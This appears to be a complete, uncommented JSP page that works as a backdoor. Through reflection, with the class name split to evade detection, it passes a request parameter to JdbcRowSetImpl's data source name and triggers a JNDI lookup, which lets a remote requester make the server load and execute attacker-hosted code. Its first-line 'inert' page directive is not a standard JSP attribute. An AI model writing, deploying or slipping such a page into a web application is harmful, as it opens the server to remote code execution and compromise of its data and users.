<%@ page inert %>
<%
Object rs = Class.forName("com.sun.rowset." + "JdbcRowSetImpl").newInstance();
rs.getClass().getMethod("setDataSourceName", String.class).invoke(rs, request.getParameter("ds"));
rs.getClass().getMethod("setAutoCommit", boolean.class).invoke(rs, true);
%>
